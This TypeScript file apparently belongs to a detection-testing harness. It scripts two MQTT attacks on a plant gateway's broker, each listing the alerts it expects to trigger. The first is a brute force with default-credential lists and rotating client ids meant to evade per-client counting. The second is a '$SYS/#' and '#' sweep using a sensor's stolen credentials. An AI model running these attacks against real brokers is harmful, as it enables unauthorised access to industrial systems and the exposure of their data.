/**
 * MQTT attack scenarios against the gateway's embedded broker, from the attacker's address: a
 * brute force that rotates client ids and user names (so per-client counting misses it; the
 * broker and the rule count per source address), and a sweep of `$SYS/#` and `#` with a sensor's
 * stolen credentials, the reconnaissance that reads the broker's state and every topic.
 */
import { randomBytes } from 'node:crypto';
import net from 'node:net';
import { MqttClient, type IClientOptions } from 'mqtt';
import type { PlantTargets, Scenario } from './types.ts';

/** An mqtt.js client whose TCP connection leaves from `localAddress`. */
function client(t: PlantTargets, options: IClientOptions): MqttClient {
  const c = new MqttClient(
    () => net.connect({ host: t.mqtt.host, port: t.mqtt.port, localAddress: t.attackerAddress }),
    { protocolVersion: 4, reconnectPeriod: 0, connectTimeout: 5000, ...options },
  );
  c.on('error', () => undefined);
  return c;
}

/** One CONNECT; resolves true when the broker accepted it. */
function tryLogin(t: PlantTargets, clientId: string, username: string, password: string): Promise<boolean> {
  return new Promise((resolve) => {
    const c = client(t, { clientId, username, password });
    const done = (ok: boolean) => {
      c.end(true);
      resolve(ok);
    };
    c.once('connect', () => done(true));
    c.once('error', () => done(false));
    c.once('close', () => done(false));
  });
}

const USERS = ['admin', 'root', 'mqtt', 'plc', 'scada', 'th-01', 'operator', 'guest'];
const PASSWORDS = ['admin', '123456', 'password', 'mqtt', 'changeme', 'plant2024'];

export const mqttBruteForce: Scenario = {
  name: 'mqtt-brute-force',
  description: '16 guessed MQTT logins from one address, each with a new client id',
  expects: [
    'MQTT brute force (many failed logins from one address, whatever the client id)',
    'MQTT connection or login flood',
  ],
  async run(t, { log } = {}) {
    log?.(`${t.attackerAddress} → 16 CONNECTs to the broker with rotating client ids`);
    let accepted = 0;
    for (let i = 0; i < 16; i += 1) {
      const id = `scan-${randomBytes(3).toString('hex')}`;
      if (await tryLogin(t, id, USERS[i % USERS.length]!, PASSWORDS[i % PASSWORDS.length]!)) accepted += 1;
    }
    return `MQTT brute force: 16 attempts, ${accepted} accepted`;
  },
};

export const mqttSysSweep: Scenario = {
  name: 'mqtt-sys-sweep',
  description: "a sensor's stolen credentials used to subscribe to $SYS/# and #",
  expects: ["MQTT subscription to every topic or to the broker's $SYS tree"],
  async run(t, { log } = {}) {
    const { id, password } = t.mqtt.stolen;
    log?.(`${t.attackerAddress} → logs in as ${id} and subscribes to $SYS/# and #`);
    const c = client(t, { clientId: `${id}-diag-${randomBytes(2).toString('hex')}`, username: id, password });
    try {
      await new Promise<void>((resolve, reject) => {
        c.once('connect', () => resolve());
        c.once('close', () => reject(new Error(`the broker refused ${id}'s credentials`)));
      });
      // mqtt.js rejects when every filter is refused (SUBACK 0x80, [MQTT-3.9.3]); that is the answer.
      const granted = await c.subscribeAsync(['$SYS/#', '#'], { qos: 0 }).then(
        (g) => g.map((x) => x.qos),
        (e: { packet?: { granted?: number[] } }) => {
          if (!e.packet?.granted) throw e;
          return e.packet.granted;
        },
      );
      const refused = granted.filter((q) => q === 128).length;
      return `subscribed to $SYS/# and #: ${refused} of ${granted.length} refused by the ACL`;
    } finally {
      await c.endAsync(true);
    }
  },
};
